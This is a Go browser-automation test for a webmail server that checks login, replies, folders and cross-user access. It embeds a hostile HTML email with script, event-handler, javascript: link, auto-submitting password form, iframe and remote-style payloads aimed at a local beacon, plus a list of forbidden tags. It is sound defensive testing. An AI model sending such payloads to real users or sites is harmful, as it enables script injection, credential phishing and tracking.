//go:build interop

package interop

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

const (
	webJill = "jill@hill.test"
	webJack = "jack@hill.test"
)

// hostileMessage tries every way an HTML mail could run code or call home;
// every URL points at the beacon at addr.
func hostileMessage(addr string) string {
	return strings.ReplaceAll(`From: Mallory <mallory@evil.test>
To: jill@hill.test
Subject: hostile
Content-Type: text/html; charset=utf-8

<html><head>
<script>document.title='pwned';try{parent.document.title='pwned'}catch(e){};fetch('http://B/script')</script>
<style>body{background:url(http://B/css.png)}</style>
<link rel="stylesheet" href="http://B/link.css">
<meta http-equiv="refresh" content="0;url=http://B/meta">
</head><body onload="fetch('http://B/onload')">
<p>Dear Jill, please <a href="javascript:fetch('http://B/jslink')">confirm your password</a>.</p>
<img src="http://B/img.png" onerror="fetch('http://B/onerror')" alt="tracker">
<img src="x" onerror="new Image().src='http://B/onerror2.png'">
<form action="http://B/form" method="post"><input name="password" autofocus onfocus="this.form.submit()"><button>Log in</button></form>
<iframe src="http://B/iframe"></iframe>
<object data="http://B/object"></object>
<svg onload="fetch('http://B/svg')"></svg>
<div style="background-image:url(http://B/style.png)">styled text</div>
</body></html>
`, "B", addr)
}

// forbiddenHits are beacon paths that only running code, a form, a frame
// or a style sheet would request: never allowed, even after "show remote
// images".
var forbiddenHits = []string{"/script", "/onload", "/jslink", "/onerror", "/onerror2.png", "/form", "/iframe", "/object", "/svg", "/meta", "/link.css", "/css.png"}

// TestWebmailBrowser drives headless Chromium against a real pail serve:
// log in, read a message that came over SMTP, reply with an attachment
// (checked in the other account with pail export), open a hostile HTML
// message and prove nothing ran and nothing was loaded, and try another
// user's message id. Screenshots go to artifacts/.
func TestWebmailBrowser(t *testing.T) {
	s := startWebServer(t)
	s.addUser(webJill)
	s.addUser(webJack)
	bea := startBeacon(t)

	sendMail(t, s.smtpAddr, webJack, []string{webJill}, "From: Jack <jack@hill.test>\nTo: jill@hill.test\nSubject: Lunch on Friday?\nMessage-ID: <lunch1@hill.test>\n\nHi Jill,\n\nlunch on Friday at noon? The usual place.\n\nJack\n")
	for i, subj := range []string{"Quarterly report", "Re: Garden plans", "Your parcel is on its way"} {
		sendMail(t, s.smtpAddr, fmt.Sprintf("sender%d@town.test", i), []string{webJill},
			fmt.Sprintf("From: Sender %d <sender%d@town.test>\nTo: jill@hill.test\nSubject: %s\n\nText %d.\n", i, i, subj, i))
	}
	sendMail(t, s.smtpAddr, "mallory@evil.test", []string{webJill}, hostileMessage(bea.addr))
	sendMail(t, s.smtpAddr, "carol@town.test", []string{webJack}, "From: carol@town.test\nTo: jack@hill.test\nSubject: Jack's private note\n\nfor Jack's eyes only\n")

	ctx, cancel := newBrowser(t)
	defer cancel()
	do := func(what string, actions ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		if err := chromedp.Do(ctx, actions...); err != nil {
			t.Fatalf("%s: %v", what, err)
		}
	}
	text := func(sel string) string {
		t.Helper()
		v, err := chromedp.Run(ctx, chromedp.Text(chromedp.CSS(sel)))
		if err != nil {
			t.Fatalf("text of %s: %v", sel, err)
		}
		return v
	}
	title := func() string {
		t.Helper()
		v, err := chromedp.Run(ctx, chromedp.Title())
		if err != nil {
			t.Fatalf("title: %v", err)
		}
		return v
	}

	// Log in.
	do("log in",
		chromedp.Navigate(s.url("/")),
		chromedp.WaitVisible(chromedp.CSS(`input[name=address]`)),
		chromedp.SendKeys(chromedp.CSS(`input[name=address]`), webJill),
		chromedp.SendKeys(chromedp.CSS(`input[name=password]`), passwordFor(webJill)),
		chromedp.Click(chromedp.CSS(`button[type=submit]`)),
		chromedp.WaitVisible(chromedp.CSS(`table.messages`)),
	)
	if got := text("table.messages"); !strings.Contains(got, "Lunch on Friday?") || !strings.Contains(got, "hostile") {
		t.Fatalf("inbox does not list the messages:\n%s", got)
	}
	// The README's docs/webmail-inbox.png is a copy of this screenshot,
	// refreshed by hand; tests never write into the source tree's docs.
	screenshot(t, ctx, "webmail-inbox.png")

	// Read the message that came over SMTP.
	do("open message",
		chromedp.Click(chromedp.Search(`//a[text()="Lunch on Friday?"]`)),
		chromedp.WaitVisible(chromedp.ID("subject")),
	)
	if got := text("#subject"); got != "Lunch on Friday?" {
		t.Errorf("subject %q", got)
	}
	if got := text("#text"); !strings.Contains(got, "lunch on Friday at noon?") {
		t.Errorf("text %q", got)
	}
	screenshot(t, ctx, "webmail-message.png")

	// Reply with the keyboard shortcut, add a line and an attachment.
	attach := filepath.Join(t.TempDir(), "agenda.txt")
	agenda := "1. soup\n2. more soup\n"
	if err := os.WriteFile(attach, []byte(agenda), 0o644); err != nil {
		t.Fatal(err)
	}
	do("reply",
		chromedp.KeyEvent("r"),
		chromedp.WaitVisible(chromedp.CSS(`textarea[name=body]`)),
	)
	to, err := chromedp.Run(ctx, chromedp.Value(chromedp.CSS(`input[name=to]`)))
	if err != nil || !strings.Contains(to, webJack) {
		t.Errorf("reply To %q (%v)", to, err)
	}
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`(function(){var b=document.querySelector('textarea[name=body]'); b.value='Friday works for me. Agenda attached.'+b.value; return true})()`)); err != nil {
		t.Fatal(err)
	}
	do("attach", chromedp.SetUploadFiles(chromedp.CSS(`input[name=attach]`), []string{attach}))
	screenshot(t, ctx, "webmail-compose.png")
	do("send",
		chromedp.Click(chromedp.ID("send")),
		chromedp.WaitVisible(chromedp.CSS(`p.note`)),
	)
	if got := text("p.note"); got != "Message sent." {
		t.Errorf("after send: %q", got)
	}

	// The reply arrived in jack's INBOX, with its attachment, and a copy
	// is in jill's Sent.
	reply := oneWithSubject(t, s.export(webJack), "Re: Lunch on Friday?", "jack's INBOX")
	raw := string(reply.Raw)
	for _, want := range []string{"In-Reply-To: <lunch1@hill.test>", "filename=agenda.txt", base64.StdEncoding.EncodeToString([]byte(agenda)), "Friday works for me. Agenda attached.", "> lunch on Friday at noon?", "with HTTP"} {
		if !strings.Contains(raw, want) {
			t.Errorf("reply in jack's INBOX lacks %q:\n%s", want, raw)
		}
	}
	oneWithSubject(t, s.exportFolder(webJill, "Sent"), "Re: Lunch on Friday?", "jill's Sent")

	// The hostile message: nothing runs, nothing loads.
	do("open hostile message",
		chromedp.Navigate(s.url("/mail")),
		chromedp.Click(chromedp.Search(`//a[text()="hostile"]`)),
		chromedp.WaitVisible(chromedp.ID("htmlbody")),
		chromedp.Sleep(1500*time.Millisecond),
	)
	if got := title(); got != "hostile · pail" {
		t.Errorf("page title %q: a script in the message ran", got)
	}
	if hits := bea.requests(); len(hits) != 0 {
		t.Errorf("the hostile message reached the network before remote images were allowed: %v", hits)
	}
	screenshot(t, ctx, "webmail-hostile.png")
	loc, _ := chromedp.Run(ctx, chromedp.Location())
	msgPath := strings.TrimPrefix(loc, s.url(""))

	// Opened on its own, outside the frame, the body is just as inert.
	do("open body alone", chromedp.Navigate(s.url(msgPath+"/body")), chromedp.Sleep(time.Second))
	html, err := chromedp.Run(ctx, chromedp.OuterHTML(chromedp.CSS("html")))
	if err != nil {
		t.Fatal(err)
	}
	low := strings.ToLower(html)
	for _, bad := range []string{"<script", "onerror", "onload", "javascript:", "<form", "<iframe", "<object", "<link", "<meta http-equiv"} {
		if strings.Contains(low, bad) {
			t.Errorf("body document contains %q:\n%s", bad, html)
		}
	}
	if !strings.Contains(html, "styled text") || !strings.Contains(html, "confirm your password") {
		t.Errorf("body document lost the text:\n%s", html)
	}
	if got := title(); strings.Contains(got, "pwned") {
		t.Errorf("body title %q: a script ran", got)
	}
	if hits := bea.requests(); len(hits) != 0 {
		t.Errorf("the body document reached the network: %v", hits)
	}

	// Positive control: after "show remote images" the image loads (so the
	// beacon would have seen a leak), and still nothing else does.
	do("show remote images",
		chromedp.Navigate(s.url(msgPath)),
		chromedp.Click(chromedp.ID("show-remote")),
		chromedp.WaitVisible(chromedp.ID("htmlbody")),
		chromedp.Sleep(1500*time.Millisecond),
	)
	hits := bea.requests()
	if !slices.Contains(hits, "GET /img.png") {
		t.Errorf("remote image not loaded after the reader asked: %v", hits)
	}
	for _, h := range hits {
		for _, bad := range forbiddenHits {
			if strings.HasSuffix(h, " "+bad) {
				t.Errorf("forbidden request %q after showing remote images", h)
			}
		}
	}
	if got := title(); strings.Contains(got, "pwned") {
		t.Errorf("title %q after showing remote images", got)
	}

	// A new folder, made in the folder list, then renamed from its page.
	do("create folder",
		chromedp.Navigate(s.url("/mail")),
		chromedp.WaitVisible(chromedp.CSS(`form.newfolder input[name=name]`)),
		chromedp.SendKeys(chromedp.CSS(`form.newfolder input[name=name]`), "Projects/Soup"),
		chromedp.Click(chromedp.CSS(`form.newfolder button`)),
		chromedp.WaitVisible(chromedp.Search(`//p[@class="note" and text()="Folder created."]`)),
	)
	if got := text("p.note"); got != "Folder created." || !strings.Contains(text("nav.folders"), "Projects/Soup") {
		t.Errorf("after creating a folder: %q; folders %q", got, text("nav.folders"))
	}
	do("rename folder",
		chromedp.Click(chromedp.CSS(`details.folderedit summary`)),
		chromedp.SetValue(chromedp.CSS(`details.folderedit input[name=name]`), "Projects/Stew"),
		chromedp.Click(chromedp.CSS(`details.folderedit button[value=rename]`)),
		// The page before had a note too: wait for the new page's.
		chromedp.WaitVisible(chromedp.Search(`//p[@class="note" and text()="Folder renamed."]`)),
	)
	if got := text("nav.folders"); !strings.Contains(got, "Projects/Stew") || strings.Contains(got, "Projects/Soup") {
		t.Errorf("folders after the rename: %q", got)
	}

	// Another user's message id is refused, in the browser and by URL.
	jackID := newWebClient(t, s, webJack).messageID("Jack's private note")
	do("open jack's message as jill", chromedp.Navigate(s.url("/msg/"+jackID)), chromedp.WaitVisible(chromedp.CSS("main")))
	if got := text("main"); !strings.Contains(got, "There is no such message") || strings.Contains(got, "eyes only") {
		t.Errorf("jack's message as jill shows:\n%s", got)
	}
	jill := newWebClient(t, s, webJill)
	for _, p := range []string{"/msg/" + jackID, "/msg/" + jackID + "/body", "/msg/" + jackID + "/part/0", "/compose?reply=" + jackID} {
		if code, body := jill.get(p); code != 404 || strings.Contains(body, "eyes only") {
			t.Errorf("GET %s as jill: %d", p, code)
		}
	}
}
